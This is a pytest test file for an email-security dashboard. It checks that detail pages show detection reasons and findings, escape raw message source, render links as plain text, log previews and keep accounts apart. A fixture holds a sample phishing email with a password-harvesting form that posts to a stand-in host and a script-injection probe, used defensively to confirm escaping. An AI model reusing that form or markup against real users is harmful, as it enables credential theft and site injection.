"""Email details: reasons, validation, findings, links as text, raw (escaped) and its download, trace, preview."""

from __future__ import annotations

import io

from PIL import Image
from sqlalchemy import select

from mailverdict.store.models import ActionLog
from tests.dashboard.conftest import Site, detail_path
from tests.factories import eml, phish, stored


def test_details_show_reasons_validation_findings_and_links_as_text(site: Site) -> None:
    message = stored(site.db, site.tenant.account_id, phish())
    assert message.detection_reasons
    client = site.sign_in()
    page = client.get(detail_path(message))
    assert page.status_code == 200
    text = page.text
    assert "Reasons for disposition" in text
    for reason in message.detection_reasons:
        assert reason.replace("'", "&#39;").replace('"', "&#34;") in text
    assert '<span class="auth fail">fail</span>' in text  # SPF and DMARC fail in the headers
    assert message.verdict["findings"][0]["name"] in text
    assert "http://192.0.2.7/login" in text
    assert 'href="http://192.0.2.7' not in text  # a message's links are shown, never linked


HOSTILE_HTML = (b"From: Mallory <mallory@example.net>\r\nTo: bob@example.org\r\nSubject: Your parcel\r\n"
                b"Date: Fri, 20 Nov 2026 09:30:00 +0000\r\nMessage-ID: <parcel@example.net>\r\nMIME-Version: 1.0\r\n"
                b"Content-Type: text/html; charset=utf-8\r\n\r\n"
                b'<form action="http://192.0.2.7/steal"><input type="password"></form><script>alert(3)</script>\r\n')


def test_raw_tab_escapes_the_source_and_the_download_is_the_original(site: Site) -> None:
    raw = HOSTILE_HTML
    message = stored(site.db, site.tenant.account_id, raw)
    client = site.sign_in()
    page = client.get(detail_path(message), params={"tab": "raw"}).text
    assert "&lt;form action=&#34;http://192.0.2.7/steal&#34;&gt;" in page
    assert '<form action="http://192.0.2.7/steal">' not in page
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in page and "<script" not in page
    download = client.get(detail_path(message, "/raw.eml"))
    assert download.status_code == 200
    assert download.content == raw
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"] == f'attachment; filename="{message.postfix_id}.eml"'


def test_trace_and_action_log_tabs(site: Site) -> None:
    message = stored(site.db, site.tenant.account_id, eml(subject="Traced"))
    client = site.sign_in()
    trace = client.get(detail_path(message), params={"tab": "trace"}).text
    assert "received by import" in trace and "Inbound" in trace
    log = client.get(detail_path(message), params={"tab": "log"}).text
    assert "No post-delivery actions yet." in log


def test_preview_is_a_png_and_is_logged(site: Site) -> None:
    message = stored(site.db, site.tenant.account_id, phish())
    client = site.sign_in()
    tab = client.get(detail_path(message), params={"tab": "preview"}).text
    assert f'src="{detail_path(message, "/preview.png")}"' in tab
    png = client.get(detail_path(message, "/preview.png"))
    assert png.headers["content-type"] == "image/png"
    assert Image.open(io.BytesIO(png.content)).format == "PNG"
    with site.db.read() as session:
        operations = list(session.scalars(select(ActionLog.operation).where(ActionLog.message_id == message.id)))
    assert operations == ["PREVIEW"]
    assert "PREVIEW" in client.get(detail_path(message), params={"tab": "log"}).text


def test_another_accounts_message_is_not_found(site: Site) -> None:
    from mailverdict.services import accounts

    other = accounts.create_account(site.db, name="Elsewhere")
    theirs = stored(site.db, other.id, eml(subject="Not yours"))
    client = site.sign_in()
    response = client.get(detail_path(theirs))
    assert response.status_code == 404
    assert "Not yours" not in response.text
    assert client.get(detail_path(theirs, "/raw.eml")).status_code == 404
